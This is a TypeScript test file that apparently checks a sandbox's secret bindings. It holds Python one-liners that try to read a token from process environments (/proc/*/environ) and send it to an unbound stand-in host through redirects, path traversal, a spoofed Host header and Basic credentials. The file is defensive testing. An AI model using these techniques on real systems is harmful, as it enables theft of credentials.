/** Y50 and up: secrets that commands use and must not learn (S33). */
import { namesHere } from "../../_support/names_here.ts";
import { HttpsEcho } from "../../_support/servers/https_echo.ts";
import { Workbench } from "../../_support/workbench.ts";
import { BOTH, python, type Row, type Way } from "../frame/attack.ts";
import { driven, together, withServer } from "../frame/stage.ts";

const BOUND = "bound.example.test";
const OTHER = "other.example.test";
const VALUE = "value-of-the-secret-0123456789";

/** Python: `ask` prints an answer, compressed or not; `T` is what the variable holds, `B` and `O` are addresses. */
const PRELUDE = `import base64, gzip, http.client, os, ssl, sys, urllib.error, urllib.request
T = os.environ["TOKEN"]
B, O = "https://${BOUND}:PORT", "https://${OTHER}:PORT"
def ask(url, method="GET", data=None, host=None, **headers):
  pairs = {name.replace("_", "-"): value for name, value in headers.items()}
  if host: pairs["Host"] = host
  request = urllib.request.Request(url, method=method, headers=pairs, data=data)
  try: answer = urllib.request.urlopen(request, timeout=20)
  except urllib.error.HTTPError as error: answer = error
  body = answer.read()
  if answer.headers.get("content-encoding") == "gzip": body = gzip.decompress(body)
  print(answer.status, answer.headers.items(), body.decode("latin1"))
`;

/** Attempts on one server: each must neither show the value nor make it arrive where no binding sends it. */
function secretly(attempts: Readonly<Record<string, string>>): Way {
  const does = driven(async (scene) => {
    using place = new Workbench(scene.user);
    await using echo = await HttpsEcho.open(place, [BOUND, OTHER]);
    const { enforced } = scene;
    const allowed = [BOUND, OTHER].flatMap((host) => ["--allow-private-hosts", host]);
    const secret = ["--secret", `TOKEN=${BOUND}:${echo.port}:GET /permitted/*`];
    return await withServer(scene, {
      prefix: namesHere(place, `${BOUND} ${OTHER}`),
      permissions: ["--allow-net"],
      environment: { TOKEN: VALUE, SSL_CERT_FILE: echo.certificate },
      flags: () => enforced ? ["--network", `${OTHER}:${echo.port}`, ...allowed, ...secret] : ["--env", "TOKEN"],
    }, async (server) => {
      const run = (program: string) =>
        server.shell(python(PRELUDE.replaceAll("PORT", String(echo.port)) + program), { timeout_seconds: 60 });
      return await together(scene, attempts, async (attempt) => {
        const before = echo.heard.length;
        const { text } = await run(attempt);
        const heard = echo.heard.slice(before).filter(({ line }) => !line.startsWith("GET /permitted/"));
        await run('ask(B + "/permitted/", Authorization="Bearer " + T)');
        if (echo.heard.at(-1)?.authorization !== `Bearer ${VALUE}`) {
          throw new Error(`The secret did not arrive: ${text}`);
        }
        const shown = [text, text.replaceAll("*", "-"), text.replaceAll("*", "0")];
        if (FORMS.some((one) => shown.some((form) => form.includes(one)))) return "the answer holds the secret";
        const arrived = heard.find(({ authorization }) => FORMS.some((one) => authorization?.includes(one)));
        return arrived && `"${arrived.line}" carried the secret`;
      });
    });
  });
  return { does };
}

const FORMS = [VALUE, btoa(`me:${VALUE}`), btoa(VALUE)];

export const SECRETS: readonly Row[] = [
  {
    id: "Y50",
    title: "learn a secret that requests carry",
    users: BOTH,
    aim: "evidence",
    ways: {
      "from what is around, and from answers": secretly({
        "the variable": "print(T)",
        "variables of all processes": `os.system("grep -ashoz '^TOKEN=.*' /proc/[0-9]*/environ | sort -zu")`,
        "a body that repeats it": 'ask(B + "/permitted/", Authorization="Bearer " + T)',
        "a body that repeats it in Basic form":
          'ask(B + "/permitted/", Authorization="Basic " + base64.b64encode(("me:" + T).encode()).decode())',
        "a compressed body": 'ask(B + "/packed/../permitted/../packed", Authorization="Bearer " + T)',
        "a part of a body":
          'ask(B + "/permitted/", Authorization="Bearer " + T, Range="bytes=0-400", Accept_Encoding="gzip")',
        "what hides it": 'ask(B + "/permitted/", X_Api_Key=T + " -", X_Key=T + " 0", Authorization=T)',
        "a later answer": 'ask(B + "/permitted/", Authorization="Bearer " + T); ask(B + "/before")',
        "several headers": 'ask(B + "/permitted/", Authorization=T, X_Api_Key=T, Private_Token=T + T)',
      }),
    },
  },
  {
    id: "Y51",
    title: "send a secret where no binding sends it",
    users: BOTH,
    aim: "evidence",
    ways: {
      "other hosts, methods, paths and names": secretly({
        "another listed host": 'ask(O + "/", Authorization="Bearer " + T)',
        "a redirect to it": `ask(B + "/moved?" + O + "/", Authorization="Bearer " + T)`,
        "another method": 'ask(B + "/permitted/", "POST", b"", Authorization="Bearer " + T)',
        "another path": 'ask(B + "/user", Authorization="Bearer " + T)',
        "up from a permitted path": 'ask(B + "/permitted/../user", Authorization="Bearer " + T)',
        "up, encoded": 'ask(B + "/permitted/%2e%2e/user", Authorization="Bearer " + T)',
        "another Host": `ask(B + "/user", host="${OTHER}", Authorization="Bearer " + T)`,
        "Basic credentials":
          'ask(B + "/user", Authorization="Basic " + base64.b64encode(("me:" + T).encode()).decode())',
        "two requests on one connection": `peer = http.client.HTTPSConnection("${BOUND}", int(B.rsplit(":")[-1]))
for path in "/permitted/", "/user":
  peer.request("GET", path, headers={"Authorization": "Bearer " + T})
  print(peer.getresponse().read())`,
      }),
    },
  },
];
